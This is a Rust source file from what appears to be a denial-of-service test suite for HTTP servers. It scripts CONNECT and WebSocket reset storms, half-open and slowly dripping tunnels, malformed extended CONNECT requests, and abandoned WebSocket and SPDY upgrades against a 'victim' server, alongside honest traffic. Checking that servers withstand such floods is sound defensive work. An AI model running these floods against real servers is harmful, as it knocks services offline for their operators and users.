//! Tunnels: opened and abandoned, half-open, and with data that drips.

use std::time::{Duration, Instant};

use crate::attack::case::Case;
use crate::attack::dialect::{Dialect, H1, H2, MULTIPLEXED};
use crate::attack::peer::Peer;
use crate::attack::play::Play;
use crate::attack::seen::Manners;
use crate::attack::wire::{Fin, Start, Wire, field};

type Played = Result<Vec<Peer>, String>;

const EYC: &str = "ENHANCE_YOUR_CALM";
const HONEST: &str = "honest/small-requests";
const HONEST_EXTENDED: &str = "honest/web-sockets";
/// The victim offers extended CONNECT (RFC 8441).
pub(super) const EXTENDED: &[&str] = &["--extended-connect"];

pub(super) const CASES: &[Case] = &[
    // The 2xx may cross the reset, as the response of any other request.
    Case::bounded(
        "tunnels/connect-resets",
        "1 tunnels",
        MULTIPLEXED,
        connect_resets,
    )
    .beside(HONEST)
    .busy(),
    Case::closed(
        "tunnels/accepted-resets",
        "1 tunnels",
        MULTIPLEXED,
        |play| accepted_resets(play, connect),
    )
    .code(EYC)
    .beside(HONEST)
    .busy(),
    Case::bounded("tunnels/half-open", "18 tunnels", MULTIPLEXED, |play| {
        half_open(play, connect)
    })
    .beside(HONEST),
    Case::bounded("tunnels/drip", "7 11 tunnels", MULTIPLEXED, |play| {
        drip(play, connect)
    })
    .beside(HONEST)
    .busy(),
    extended("tunnels/extended-resets", |play| {
        let mut peer = play.connect()?;
        storm(play, &mut peer, |peer| web_socket(peer, "/tunnel"));
        Ok(vec![peer])
    })
    .busy(),
    extended("tunnels/extended-accepted-resets", |play| {
        accepted_resets(play, |peer| web_socket(peer, "/tunnel"))
    })
    .code(EYC)
    .busy(),
    extended("tunnels/extended-half-open", |play| {
        half_open(play, |peer| web_socket(peer, "/tunnel"))
    }),
    extended("tunnels/extended-drip", |play| {
        drip(play, |peer| web_socket(peer, "/tunnel"))
    })
    .busy(),
    extended("tunnels/extended-unanswered", unanswered),
    extended("tunnels/extended-unanswered-resets", |play| {
        let mut peer = play.connect()?;
        storm(play, &mut peer, |peer| web_socket(peer, "/unread"));
        Ok(vec![peer])
    })
    .code(EYC)
    .busy(),
    // Neither a service nor a tunnel is behind these: each is malformed.
    Case::closed("tunnels/extended-not-offered", "3 tunnels", H2, |play| {
        let mut peer = play.connect()?;
        storm(play, &mut peer, |peer| web_socket(peer, "/tunnel"));
        Ok(vec![peer])
    })
    .code(EYC)
    .beside(HONEST_EXTENDED)
    .busy(),
    extended("tunnels/extended-malformed", |play| {
        let mut peer = play.connect()?;
        storm(play, &mut peer, |peer| {
            let protocol = [field(":protocol", "websocket")];
            // Without a path; and with another method.
            peer.request("CONNECT", "", Fin::More, &protocol);
            peer.request("GET", "/", Fin::More, &protocol)
        });
        Ok(vec![peer])
    })
    .code(EYC)
    .busy(),
    Case::bounded("tunnels/upgrades-abandoned", "29 tunnels", H1, |play| {
        abandoned(play, "websocket", |_| {})
    })
    .beside(HONEST)
    .busy(),
    Case::bounded(
        "tunnels/spdy-upgrades-abandoned",
        "S8 tunnels",
        H1,
        |play| {
            abandoned(play, "SPDY/3.1", |peer| {
                // Four streams as kubectl opens them, and a frame that never ends.
                let mut wire = streams();
                wire.data(1, b"some", Fin::More);
                wire.data_head(3, 1_000, Fin::More);
                peer.wire.raw(wire.take());
            })
        },
    )
    .beside(HONEST)
    .busy(),
    Case::bounded("tunnels/spdy-upgrades-drip", "S8 tunnels", H1, spdy_drip)
        .beside(HONEST)
        .busy(),
];

/// Opens a tunnel.
type Connect = fn(&mut Peer) -> u32;

/// An attack by extended CONNECT on a victim that offers it.
const fn extended(name: &'static str, script: crate::attack::case::Script) -> Case {
    Case::bounded(name, "1 7 11 18 tunnels RFC8441", H2, script)
        .arguments(EXTENDED)
        .beside(HONEST_EXTENDED)
}

fn connect(peer: &mut Peer) -> u32 {
    peer.request("CONNECT", "victim:80", Fin::More, &[])
}

/// An extended CONNECT (RFC 8441 §4).
pub(super) fn web_socket(peer: &mut Peer, path: &str) -> u32 {
    let fields = [
        field(":protocol", "websocket"),
        field(":scheme", "http"),
        field(":path", path),
        field("sec-websocket-version", "13"),
    ];
    peer.request("CONNECT", path, Fin::More, &fields)
}

fn connect_resets(play: &mut Play<'_>) -> Played {
    let mut peer = play.connect()?;
    storm(play, &mut peer, connect);
    Ok(vec![peer])
}

/// Opens and resets, without a look at what comes back.
fn storm(play: &Play<'_>, peer: &mut Peer, open: Connect) {
    for _ in 0..play.small_or(20_000, 100_000) {
        let id = open(peer);
        peer.wire.reset(id);
        peer.opened.clear();
        if peer.seen().closed.is_some() {
            break;
        }
    }
    peer.flush();
}

/// Resets tunnels as soon as the victim has accepted them.
fn accepted_resets(play: &mut Play<'_>, open: Connect) -> Played {
    let mut peer = play.connect()?;
    let end = Instant::now() + Duration::from_secs(play.small_or(3, 20));
    let mut count = 0_u32;
    while Instant::now() < end && peer.seen().closed.is_none() {
        let ids: Vec<u32> = (0..50).map(|_| open(&mut peer)).collect();
        peer.flush();
        peer.wait(Duration::from_secs(1), |seen| {
            ids.iter().all(|id| seen.statuses.contains_key(id))
        });
        let accepted = ids
            .iter()
            .filter(|id| peer.seen().statuses.contains_key(id))
            .count();
        count += u32::try_from(accepted).unwrap_or(0);
        for id in ids {
            peer.wire.reset(id);
        }
        peer.opened.clear();
        peer.flush();
    }
    if count == 0 {
        play.fail("no tunnel was opened");
    }
    play.note(format!("{count} tunnels"));
    Ok(vec![peer])
}

/// Tunnels that no handler answers, full of data, and left: half by a reset, half by a close of
/// the connection.
fn unanswered(play: &mut Play<'_>) -> Played {
    let mut peers = Vec::new();
    for number in 0..play.small_or(10, 50) {
        let mut peer = play.connect_as(Manners::Stingy)?;
        let ids: Vec<u32> = (0..100).map(|_| web_socket(&mut peer, "/unread")).collect();
        for id in &ids {
            peer.data_in_credit(*id, &[b'x'; 16_000], Fin::More);
        }
        peer.flush();
        if number % 2 == 0 {
            peers.push(peer);
            continue;
        }
        for id in ids.iter().step_by(2) {
            peer.wire.reset(*id);
        }
        peer.flush();
        play.leave(peer);
    }
    Ok(peers)
}

/// Connections with a hundred tunnels each. Half of each tunnel is closed, and the server's half
/// waits for a client that says nothing.
fn half_open(play: &mut Play<'_>, connect: Connect) -> Played {
    let mut peers = Vec::new();
    for _ in 0..play.small_or(10, 50) {
        let mut peer = play.connect_as(Manners::Stingy)?;
        for number in 0..100 {
            let id = connect(&mut peer);
            peer.data_in_credit(id, b"x", if number % 2 == 0 { Fin::End } else { Fin::More });
        }
        peer.flush();
        peers.push(peer);
    }
    opened(play, &peers, "200");
    Ok(peers)
}

/// The victim answered so: otherwise the case would attack nothing.
fn opened(play: &mut Play<'_>, peers: &[Peer], status: &str) {
    std::thread::sleep(Duration::from_millis(500));
    let agreed = |peer: &Peer| {
        let seen = peer.seen();
        seen.statuses.values().filter(|one| *one == status).count()
    };
    let count: usize = peers.iter().map(agreed).sum();
    if count == 0 {
        play.fail("no tunnel was opened");
    }
    play.note(format!("{count} tunnels"));
}

/// A hundred tunnels that echo; each gets a byte in turn, and gives no credit back.
fn drip(play: &mut Play<'_>, connect: Connect) -> Played {
    let mut peers = Vec::new();
    for _ in 0..2 {
        let mut peer = play.connect_as(Manners::Stingy)?;
        for _ in 0..100 {
            connect(&mut peer);
        }
        peer.flush();
        peers.push(peer);
    }
    opened(play, &peers, "200");
    let end = Instant::now() + play.flood_time();
    while Instant::now() < end && peers.iter().any(|peer| peer.seen().closed.is_none()) {
        for peer in &mut peers {
            let ids = peer.opened.clone();
            for id in ids {
                peer.data_in_credit(id, b"x", Fin::More);
            }
            peer.flush_within(Duration::from_millis(100));
        }
    }
    Ok(peers)
}

/// A connection that asks to switch, once the victim has agreed.
fn upgrade(play: &Play<'_>, protocol: &str) -> Result<Peer, String> {
    let mut peer = play.socket(Manners::Mute)?;
    peer.wire.raw(format!(
        "GET /tunnel HTTP/1.1\r\nhost: v\r\nconnection: upgrade\r\nupgrade: {protocol}\r\n\r\n"
    ));
    peer.flush();
    let agreed = peer.wait(Duration::from_secs(3), |seen| {
        seen.http1.starts_with(b"HTTP/1.1 101")
    });
    match agreed {
        true => Ok(peer),
        false => Err(format!("no upgrade to {protocol}")),
    }
}

/// Upgrades again and again, each of which is left at once.
fn abandoned(play: &mut Play<'_>, protocol: &str, then: fn(&mut Peer)) -> Played {
    let end = Instant::now() + play.flood_time();
    let mut count = 0_u32;
    while Instant::now() < end {
        let mut peer = upgrade(play, protocol)?;
        then(&mut peer);
        peer.flush();
        play.leave(peer);
        count += 1;
    }
    play.note(format!("{count} upgrades"));
    Ok(vec![upgrade(play, protocol)?])
}

fn streams() -> Wire {
    let mut wire = Wire::new(Dialect::Spdy31);
    for id in [1, 3, 5, 7] {
        let start = Start::Request {
            method: "POST",
            path: "/exec",
        };
        wire.head(id, start, Fin::More, &[]);
    }
    wire
}

/// Many connections in SPDY/3.1 after an upgrade, whose streams bring a byte now and then.
fn spdy_drip(play: &mut Play<'_>) -> Played {
    let mut peers = Vec::new();
    for _ in 0..play.small_or(60, 500) {
        let mut peer = upgrade(play, "SPDY/3.1")?;
        peer.wire.raw(streams().take());
        peer.flush();
        peers.push(peer);
    }
    let end = Instant::now() + play.flood_time();
    let mut wire = Wire::new(Dialect::Spdy31);
    for id in [1, 3, 5, 7] {
        wire.data(id, b"x", Fin::More);
    }
    let drip = wire.take();
    while Instant::now() < end {
        for peer in &mut peers {
            peer.wire.raw(&drip);
            peer.flush_within(Duration::from_millis(20));
        }
    }
    Ok(peers)
}
